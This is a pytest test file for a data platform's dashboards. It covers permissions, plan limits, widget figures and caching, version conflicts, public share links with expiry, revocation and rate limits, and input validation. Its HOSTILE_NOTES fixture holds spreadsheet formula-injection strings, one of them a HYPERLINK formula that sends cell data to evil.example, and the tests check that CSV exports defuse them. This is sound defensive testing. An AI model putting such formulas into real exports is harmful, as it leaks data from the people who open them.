"""Dashboards: roles, tier limit, widgets with plotly figures, cache, CSV, optimistic
locking, filters, public links (token, expiry, revoke, regenerate, isolation, rate limit)."""

from __future__ import annotations

import csv as csv_module
import io
import json
from datetime import UTC, datetime, timedelta

import plotly.graph_objects as go
import pytest
from sqlalchemy import select, update

from assets.data_models import data_model_tables
from dra.dashboards.cache import widget_cache
from dra.modeling import service as models
from dra.models import (
    Dashboard,
    DashboardPublicLink,
    DashboardWidget,
    DataModel,
    SubscriptionTier,
)
from tests.support.factories import project_with_roles
from tests.support.modeling import JOIN_QUERY, seed_shop


@pytest.fixture
def shop(database, materialize):
    with database.system_session() as s:
        roles = project_with_roles(s)
    seed_shop(database, roles.project_id)
    with database.system_session() as s:
        revenue = models.save_model(
            s, database, roles.project_id, roles.owner.id, name="Revenue", query_json=JOIN_QUERY
        ).model.id
        orders = models.save_model(
            s, database, roles.project_id, roles.owner.id, name="Orders", sql="select * from orders"
        ).model.id
    materialize(
        [data_model_tables],
        partition_key=str(revenue),
        dynamic_partitions={"data_models": [revenue, orders]},
    )
    materialize([data_model_tables], partition_key=str(orders))
    widget_cache.clear()
    return roles, revenue, orders


def base(project_id):
    return f"/projects/{project_id}/dashboards"


def new_board(client, project_id, name="Sales"):
    resp = client.post(base(project_id), json={"name": name})
    assert resp.status_code == 201, resp.json
    return resp.json["id"]


def version_of(database, board_id):
    with database.system_session() as s:
        return s.get(Dashboard, board_id).version


def add_widget(client, database, project_id, board_id, **form):
    data = {"version": version_of(database, board_id), "title": "W", **form}
    return client.post(f"{base(project_id)}/{board_id}/widgets/new", data=data)


def test_create_list_and_tier_limit(shop, login, database):
    roles, *_ = shop
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    assert (
        editor.get(base(roles.project_id) + "?format=json").json["dashboards"][0]["id"] == board_id
    )
    assert login(roles.viewer).post(base(roles.project_id), json={"name": "x"}).status_code == 403
    assert editor.post(base(roles.project_id), json={"name": " "}).status_code == 422
    with database.system_session() as s:
        s.execute(
            update(SubscriptionTier)
            .where(SubscriptionTier.name == "Enterprise")
            .values(max_dashboards=1)
        )
    refused = editor.post(base(roles.project_id), data={"name": "Second"})
    assert refused.status_code == 403 and b"Upgrade your plan" in refused.data
    assert login(roles.outsider).get(base(roles.project_id)).status_code == 404
    page = editor.get(f"{base(roles.project_id)}/{board_id}")
    assert page.status_code == 200 and b"/vendor/plotly.min.js" in page.data


def test_widgets_render_server_built_figures_cached_and_exported(shop, login, database):
    roles, revenue, orders = shop
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    for chart, extra in (
        ("bar", {"x": "country", "y": "revenue"}),
        ("kpi", {"y": "amount", "x": "ordered_on", "period": "day"}),
        ("line", {"x": "ordered_on", "y": "amount", "aggregate": "sum"}),
    ):
        model = revenue if chart == "bar" else orders
        resp = add_widget(
            editor,
            database,
            roles.project_id,
            board_id,
            data_model_id=model,
            chart_type=chart,
            **extra,
        )
        assert resp.status_code == 302, resp.data
    with database.system_session() as s:
        widgets = s.scalars(select(DashboardWidget).order_by(DashboardWidget.id)).all()
    first = f"{base(roles.project_id)}/{board_id}/widgets/{widgets[0].id}/data"
    data = editor.get(first).json
    assert data["error"] is None and data["cached"] is False and data["model"] == "Revenue"
    assert data["materializedAt"]
    go.Figure(data["figure"])
    assert data["figure"]["data"][0]["x"] == ["FR", "US"]
    assert editor.get(first).json["cached"] is True
    kpi = editor.get(f"{base(roles.project_id)}/{board_id}/widgets/{widgets[1].id}/data").json
    assert kpi["figure"]["data"][0]["mode"] == "number+delta"
    csv = login(roles.viewer).get(first + ".csv")
    assert csv.status_code == 200 and csv.data.decode().splitlines()[0] == "x,y"
    # filters: only FR survives; the filtered result is cached separately
    filters = json.dumps({"values": {"column": "country", "values": ["FR"]}})
    filtered = editor.get(first, query_string={"filters": filters}).json
    assert filtered["figure"]["data"][0]["x"] == ["FR"] and filtered["cached"] is False


def test_bad_widget_binding_and_stale_version_are_refused(shop, login, database):
    roles, revenue, _ = shop
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    bad = add_widget(
        editor,
        database,
        roles.project_id,
        board_id,
        data_model_id=revenue,
        chart_type="bar",
        x="country",
        y="no_such_column",
    )
    assert bad.status_code == 400 and b"y: &#39;no_such_column&#39; is not a column" in bad.data
    stale = editor.post(
        f"{base(roles.project_id)}/{board_id}/widgets/new",
        data={
            "version": version_of(database, board_id) - 1
            if version_of(database, board_id) > 1
            else 99,
            "data_model_id": revenue,
            "chart_type": "bar",
            "x": "country",
            "y": "revenue",
        },
    )
    assert stale.status_code == 409 and b"changed by someone else" in stale.data
    with database.system_session() as s:
        assert s.scalar(select(DashboardWidget.id)) is None
    assert (
        login(roles.viewer).get(f"{base(roles.project_id)}/{board_id}/widgets/new").status_code
        == 403
    )


def test_layout_saves_with_version_and_a_stale_save_gets_409(shop, login, database):
    roles, revenue, _ = shop
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    add_widget(
        editor,
        database,
        roles.project_id,
        board_id,
        data_model_id=revenue,
        chart_type="pie",
        x="country",
        y="revenue",
    )
    with database.system_session() as s:
        wid = s.scalar(select(DashboardWidget.id))
    v = version_of(database, board_id)
    url = f"{base(roles.project_id)}/{board_id}/layout"
    ok = editor.post(
        url, json={"version": v, "widgets": [{"id": wid, "x": 6, "y": 0, "w": 6, "h": 5}]}
    )
    assert ok.status_code == 200 and ok.json["version"] == v + 1
    stale = login(roles.owner).post(
        url, json={"version": v, "widgets": [{"id": wid, "x": 0, "y": 0, "w": 3, "h": 3}]}
    )
    assert stale.status_code == 409 and "changed by someone else" in stale.json["error"]
    off_grid = editor.post(
        url, json={"version": v + 1, "widgets": [{"id": wid, "x": 10, "y": 0, "w": 6, "h": 3}]}
    )
    assert off_grid.status_code == 400
    with database.system_session() as s:
        w = s.get(DashboardWidget, wid)
        assert (w.x, w.y, w.w, w.h) == (6, 0, 6, 5)


def test_deleted_model_shows_not_found_and_dashboard_delete_is_owner_only(shop, login, database):
    roles, revenue, _ = shop
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    add_widget(
        editor,
        database,
        roles.project_id,
        board_id,
        data_model_id=revenue,
        chart_type="bar",
        x="country",
        y="revenue",
    )
    login(roles.owner).post(f"/projects/{roles.project_id}/models/{revenue}/delete")
    with database.system_session() as s:
        wid = s.scalar(select(DashboardWidget.id))
    data = editor.get(f"{base(roles.project_id)}/{board_id}/widgets/{wid}/data").json
    assert data["error"] == "Data model not found."
    assert editor.post(f"{base(roles.project_id)}/{board_id}/delete").status_code == 403
    assert login(roles.owner).post(f"{base(roles.project_id)}/{board_id}/delete").status_code == 302
    with database.system_session() as s:
        assert s.get(Dashboard, board_id) is None


def test_public_link_lifecycle_and_isolation(shop, login, database, app):
    roles, revenue, orders = shop
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    other_id = new_board(editor, roles.project_id, "Private")
    add_widget(
        editor,
        database,
        roles.project_id,
        board_id,
        data_model_id=revenue,
        chart_type="bar",
        x="country",
        y="revenue",
    )
    add_widget(
        editor, database, roles.project_id, other_id, data_model_id=orders, chart_type="table"
    )
    with database.system_session() as s:
        mine, secret = s.scalars(select(DashboardWidget.id).order_by(DashboardWidget.id)).all()
    share = f"{base(roles.project_id)}/{board_id}/share"
    assert login(roles.viewer).post(share, data={"action": "create"}).status_code == 403
    editor.post(share, data={"action": "create"})
    editor.post(share, data={"action": "create"})  # idempotent: the same link
    with database.system_session() as s:
        links = s.scalars(select(DashboardPublicLink)).all()
        assert len(links) == 1 and len(links[0].token) >= 43  # 256 bits
        token = links[0].token
    guest = app.test_client()
    page = guest.get(f"/public/d/{token}")
    assert page.status_code == 200 and b"Sales" in page.data and b"Add widget" not in page.data
    data = guest.get(f"/public/d/{token}/widgets/{mine}/data").json
    assert data["figure"]["data"][0]["type"] == "bar"
    # a guest may not filter on columns the dashboard does not offer as filters
    probe = json.dumps({"values": {"column": "country", "values": ["FR"]}})
    probed = guest.get(f"/public/d/{token}/widgets/{mine}/data", query_string={"filters": probe})
    assert probed.json["figure"]["data"][0]["x"] == ["FR", "US"]
    assert guest.get(f"/public/d/{token}/widgets/{secret}/data").status_code == 404
    assert guest.get(f"/public/d/{token}/widgets/{secret}/data.csv").status_code == 404
    assert guest.get(f"/projects/{roles.project_id}/dashboards/{other_id}").status_code in (
        302,
        401,
    )
    assert guest.get("/public/d/" + "A" * 43).status_code == 404
    # regenerate: the old token stops working
    editor.post(share, data={"action": "regenerate"})
    assert guest.get(f"/public/d/{token}").status_code == 404
    with database.system_session() as s:
        new = s.scalar(
            select(DashboardPublicLink.token).where(DashboardPublicLink.revoked_at.is_(None))
        )
    assert guest.get(f"/public/d/{new}").status_code == 200
    # expiry in the past is refused; an expired link is a 404
    past = editor.post(share, data={"action": "regenerate", "expires_at": "2020-01-01"})
    assert past.status_code == 400 and b"future" in past.data
    with database.system_session() as s:
        s.execute(
            update(DashboardPublicLink).values(expires_at=datetime.now(UTC) - timedelta(minutes=1))
        )
    assert guest.get(f"/public/d/{new}").status_code == 404
    with database.system_session() as s:
        s.execute(update(DashboardPublicLink).values(expires_at=None))
    editor.post(share, data={"action": "revoke"})
    gone = guest.get(f"/public/d/{new}")
    assert gone.status_code == 404 and b"no longer shared" in gone.data


def test_public_page_is_rate_limited(settings):
    from webapp import create_app

    limited = create_app(
        settings,
        config={
            "TESTING": True,
            "WTF_CSRF_ENABLED": False,
            "RATELIMIT_ENABLED": True,
            "RATELIMIT_STORAGE_URI": "memory://",
        },
    )
    client = limited.test_client()
    codes = [client.get("/public/d/" + "B" * 43).status_code for _ in range(125)]
    assert codes[0] == 404 and codes[-1] == 429
    limited.extensions["dra_database"].dispose()


def test_all_dashboards_of_the_user_across_projects(shop, login, database):
    roles, *_ = shop
    board_id = new_board(login(roles.editor), roles.project_id, "Editors' board")
    with database.system_session() as s:
        s.add(Dashboard(project_id=roles.outsider_project_id, name="Outsider board"))
    page = login(roles.viewer).get("/dashboards")
    assert page.status_code == 200 and b"Editors&#39; board" in page.data
    assert f"/dashboards/{board_id}".encode() in page.data
    assert b"Outsider board" not in page.data
    admin_page = login(roles.platform_admin).get("/dashboards")
    assert b"Editors&#39; board" not in admin_page.data  # admins list their own projects'


HOSTILE_NOTES = [
    (1, '=HYPERLINK("http://evil.example/?d="&A1,"open")', -5),
    (2, "+1+2", 3),
    (3, "-2+3", -7),
    (4, "@SUM(A1:A2)", 0),
    (5, "\tcmd", 1),
    (6, "\rcmd", 2),
    (7, " =1+1", 4),
    (8, "plain text", -1),
]


def test_csv_exports_write_formulas_as_text_for_members_and_guests(
    shop, login, database, materialize, app
):
    from dra.ingestion.csv_files import Column
    from dra.ingestion.naming import raw_schema
    from dra.models import DataSource, DataSourceTable
    from tests.support.modeling import load_table

    roles, *_ = shop
    columns = [
        Column("id", "id", "bigint"),
        Column("note", "note", "text"),
        Column("delta", "delta", "numeric"),
    ]
    load_table(database, raw_schema(roles.project_id), "notes", columns, HOSTILE_NOTES)
    with database.system_session() as s:
        src = DataSource(project_id=roles.project_id, name="Notes", type="csv", status="ready")
        s.add(src)
        s.flush()
        s.add(
            DataSourceTable(
                data_source_id=src.id,
                source_table="notes",
                raw_table="notes",
                row_count=len(HOSTILE_NOTES),
                columns=[
                    {"name": c.name, "source_name": c.name, "type": c.pg_type} for c in columns
                ],
            )
        )
        notes = models.save_model(
            s,
            database,
            roles.project_id,
            roles.owner.id,
            name="Notes",
            sql="select id, note, delta from notes order by id",
        ).model.id
        all_models = list(s.scalars(select(DataModel.id)))
    materialize(
        [data_model_tables],
        partition_key=str(notes),
        dynamic_partitions={"data_models": all_models},
    )
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    resp = add_widget(
        editor, database, roles.project_id, board_id, data_model_id=notes, chart_type="table"
    )
    assert resp.status_code == 302, resp.data
    with database.system_session() as s:
        wid = s.scalar(select(DashboardWidget.id))
    editor.post(f"{base(roles.project_id)}/{board_id}/share", data={"action": "create"})
    with database.system_session() as s:
        token = s.scalar(select(DashboardPublicLink.token))
    member = login(roles.viewer).get(f"{base(roles.project_id)}/{board_id}/widgets/{wid}/data.csv")
    guest = app.test_client().get(f"/public/d/{token}/widgets/{wid}/data.csv")
    for resp in (member, guest):
        assert resp.status_code == 200 and resp.mimetype == "text/csv"
        rows = list(csv_module.reader(io.StringIO(resp.get_data(as_text=True))))
        assert rows[0] == ["id", "note", "delta"]
        notes_out = {int(r[0]): r[1] for r in rows[1:]}
        deltas = {int(r[0]): r[2] for r in rows[1:]}
        for nid, text, _delta in HOSTILE_NOTES[:-1]:
            assert notes_out[nid] == "'" + text, (nid, notes_out[nid])
        assert notes_out[8] == "plain text"
        assert deltas[1] == "-5" and deltas[3] == "-7"  # negative numbers stay numbers


def test_deeply_nested_or_huge_filters_answer_400_naming_the_field(shop, login, database, app):
    roles, revenue, _ = shop
    editor = login(roles.editor)
    board_id = new_board(editor, roles.project_id)
    add_widget(
        editor,
        database,
        roles.project_id,
        board_id,
        data_model_id=revenue,
        chart_type="bar",
        x="country",
        y="revenue",
    )
    editor.post(f"{base(roles.project_id)}/{board_id}/share", data={"action": "create"})
    with database.system_session() as s:
        wid = s.scalar(select(DashboardWidget.id))
        token = s.scalar(select(DashboardPublicLink.token))
    member = f"{base(roles.project_id)}/{board_id}/widgets/{wid}/data"
    public = f"/public/d/{token}/widgets/{wid}/data"
    guest = app.test_client()
    deep = "[" * 5000 + "]" * 5000
    nine = '{"values": {"values": ' + "[" * 8 + "]" * 8 + "}}"
    huge = json.dumps({"values": {"column": "country", "values": ["x" * 20_000]}})
    for client, url in ((editor, member), (guest, public)):
        for raw, words in (
            (deep, "nested too deeply"),
            (nine, "nested too deeply"),
            (huge, "16 KB"),
        ):
            resp = client.get(url, query_string={"filters": raw})
            assert resp.status_code == 400, (url, resp.status_code)
            assert resp.json["field"] == "filters" and words in resp.json["error"]
            csv_resp = client.get(url + ".csv", query_string={"filters": raw})
            assert csv_resp.status_code == 400 and b"filters" in csv_resp.data
        bad = client.get(url, query_string={"filters": "{nope"})
        assert bad.status_code == 400 and bad.json["error"] == "filters must be JSON."
        fine = client.get(url, query_string={"filters": json.dumps({"values": {"values": []}})})
        assert fine.status_code == 200
